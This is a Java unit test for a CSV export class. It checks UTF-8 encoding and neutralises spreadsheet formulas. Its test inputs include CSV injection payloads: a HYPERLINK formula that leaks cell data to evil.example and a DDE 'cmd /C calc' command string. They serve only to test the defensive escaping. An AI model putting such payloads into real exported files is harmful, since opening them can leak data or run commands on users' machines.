package org.pastoralflow.documents;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import org.junit.jupiter.api.Test;

/** The one CSV writer: what Excel needs to show names right, and no cell that runs as a formula. */
class CsvExportTest {

    static String text(byte[] file) {
        return new String(file, StandardCharsets.UTF_8);
    }

    @Test
    void theFileIsUtf8WithAByteOrderMarkAndCrlfLineEnds() {
        byte[] file = CsvExport.withHeader(List.of("Surname", "Forename")).row("O'Neill", "Siobhán").row("Nguyễn", "Łukasz").toBytes();
        assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        assertThat(text(file)).isEqualTo("\uFEFFSurname,Forename\r\nO'Neill,Siobhán\r\nNguyễn,Łukasz\r\n");
    }

    @Test
    void textThatWouldRunAsAFormulaGetsALeadingQuoteAndStaysOneQuotedCell() {
        String link = "=HYPERLINK(\"https://evil.example/?\"&A2,\"open\")";
        String csv = text(CsvExport.withHeader(List.of("Place", "Incidents")).row(link, 3).toBytes());
        assertThat(csv).isEqualTo("\uFEFFPlace,Incidents\r\n\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A2,\"\"open\"\")\",3\r\n");

        assertThat(CsvExport.neutralised("=1+1")).isEqualTo("'=1+1");
        assertThat(CsvExport.neutralised("+44 7700 900123")).isEqualTo("'+44 7700 900123");
        assertThat(CsvExport.neutralised("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(CsvExport.neutralised("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(CsvExport.neutralised("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(CsvExport.neutralised("\r=1+1")).isEqualTo("'\r=1+1");
        assertThat(CsvExport.neutralised("Playground = bad")).as("only the first character matters").isEqualTo("Playground = bad");
        assertThat(CsvExport.neutralised("")).isEmpty();
    }

    @Test
    void numbersStayNumbersWhetherTheyAreNumbersOrTextThatIsOnlyANumber() {
        String csv = text(new CsvExport().row(-3, 2.5, "-3", "+3", "-0.5", "−3", null).toBytes());
        assertThat(csv).isEqualTo("\uFEFF-3,2.5,-3,+3,-0.5,−3,\r\n");
        assertThat(CsvExport.neutralised("-3 pupils")).isEqualTo("'-3 pupils");
        assertThat(CsvExport.neutralised("-3e5")).as("not a plain number").isEqualTo("'-3e5");
    }
}
